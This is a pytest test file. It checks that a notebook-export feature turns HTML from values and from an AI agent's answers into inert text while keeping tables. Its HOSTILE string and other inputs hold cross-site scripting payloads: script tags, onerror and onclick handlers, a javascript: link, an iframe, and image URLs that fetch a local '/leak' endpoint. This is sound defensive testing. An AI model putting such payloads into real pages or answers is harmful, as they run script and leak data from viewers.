"""An exported notebook carries no HTML that acts when it is opened (issue 18, F8): a
value whose HTML came from a file, and an answer that copied a tag or an image from
one, arrive as text; the tables the page shows still arrive as tables."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import nbformat
import pytest

from reckon.agent import export_notebook
from reckon.agent._inert import inert_markdown, safe_table_html
from reckon.kernel import Kernel as Session

from .helpers import run

HOSTILE = (
    '<img src="http://127.0.0.1:9/leak?d=secret" onerror="fetch(\'http://127.0.0.1:9/\')">'
    "<script>fetch('http://127.0.0.1:9/x')</script>"
    '<table><tr><td onclick="steal()" style="background:url(http://127.0.0.1:9/c)">'
    "<a href='javascript:alert(1)'>Alice</a></td><td colspan=\"2\">42</td></tr></table>"
    "<iframe src='http://127.0.0.1:9/f'></iframe>"
)


def notebook_of(tmp_path: Path, code: str, answer: str) -> dict[str, Any]:
    """A one-question session whose one cell ran ``code`` in the real kernel."""
    session = Session(data_dir=str(tmp_path / "data"), output_dir=str(tmp_path / "output"))
    result = run(session.run(code))
    assert result["status"] == "ok", result
    step = {"kind": "code", "index": 0, "code": code, "result": result}
    transcript = {"asks": [{"question": "Who?", "steps": [step], "answer": answer}]}
    text = export_notebook(transcript)
    nbformat.validate(nbformat.reads(text, as_version=4))
    notebook: dict[str, Any] = json.loads(text)
    return notebook


def html_outputs(notebook: dict[str, Any]) -> list[str]:
    return [
        "".join(output["data"]["text/html"])
        for cell in notebook["cells"]
        for output in cell.get("outputs", [])
        if "text/html" in output.get("data", {})
    ]


def test_a_values_html_from_a_file_keeps_only_its_table(tmp_path: Path) -> None:
    code = f"class Shown:\n    def _repr_html_(self): return {HOSTILE!r}\nShown()"
    (html,) = html_outputs(notebook_of(tmp_path, code, "Alice."))
    lowered = html.lower()
    for active in ("<img", "<script", "<iframe", "<a ", "onclick", "onerror", "style", "http"):
        assert active not in lowered, html
    assert html.startswith('<table class="dataframe">') and "Alice" in html
    assert '<td colspan="2">42</td>' in html


def test_html_with_no_table_is_left_out_and_its_text_stays(tmp_path: Path) -> None:
    code = "class Shown:\n    def _repr_html_(self): return '<img src=x onerror=alert(1)>'\nShown()"
    notebook = notebook_of(tmp_path, code, "Done.")
    assert html_outputs(notebook) == []
    plain = [c for c in notebook["cells"] if c["cell_type"] == "code" and c["outputs"]]
    assert "Shown object" in "".join(plain[-1]["outputs"][0]["data"]["text/plain"])


def test_a_dataframe_arrives_as_the_table_the_page_shows(tmp_path: Path) -> None:
    code = "import pandas as pd\npd.DataFrame({'name': ['<b>Al</b>', 'Bo'], 'n': [1, 2]})"
    (html,) = html_outputs(notebook_of(tmp_path, code, "Two."))
    assert "<th>name</th>" in html and "<td>Bo</td>" in html
    assert "&lt;b&gt;Al&lt;/b&gt;" in html and "<b>" not in html  # pandas escaped it; so do we


def test_an_answer_that_copied_html_or_an_image_shows_them_as_text(tmp_path: Path) -> None:
    answer = (
        "The top name is **Alice** <img src='http://127.0.0.1:9/leak'>.\n"
        "![chart](http://127.0.0.1:9/leak?d=salaries)\n"
        "Computed with `df[df.n < 3]`:\n```python\nprint('<b>kept</b>')\n```\n"
    )
    notebook = notebook_of(tmp_path, "1 + 1", answer)
    markdown = "".join(notebook["cells"][-1]["source"])
    assert "<img" not in markdown and "&lt;img" in markdown
    assert "![" not in markdown and "[chart](http://127.0.0.1:9/leak?d=salaries)" in markdown
    assert "`df[df.n < 3]`" in markdown and "print('<b>kept</b>')" in markdown  # code as written
    assert "**Alice**" in markdown


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        pytest.param("<p>no table</p>", None, id="none"),
        pytest.param("<table><tr><td>1", '<table class="dataframe"><tr><td>1</td></tr></table>',
                     id="cut-off"),
        pytest.param("<table><tr><td>a</td></tr></table><table><tr><td>b</td></tr></table>",
                     '<table class="dataframe"><tr><td>a</td></tr></table>', id="first-only"),
        pytest.param("<table><tr><td><script>x<td>1</td></script>ok</td></tr></table>",
                     '<table class="dataframe"><tr><td>ok</td></tr></table>', id="script"),
        pytest.param('<table><tr><td rowspan="9999" colspan="x">v</td></tr></table>',
                     '<table class="dataframe"><tr><td>v</td></tr></table>', id="spans"),
    ],
)  # fmt: skip
def test_safe_table_html(html: str, expected: str | None) -> None:
    assert safe_table_html(html) == expected


def test_inert_markdown_leaves_fenced_code_with_tildes_alone() -> None:
    text = "a <i>b</i>\n~~~\n<i>c</i>\n~~~\nd"
    assert inert_markdown(text) == "a &lt;i>b&lt;/i>\n~~~\n<i>c</i>\n~~~\nd"
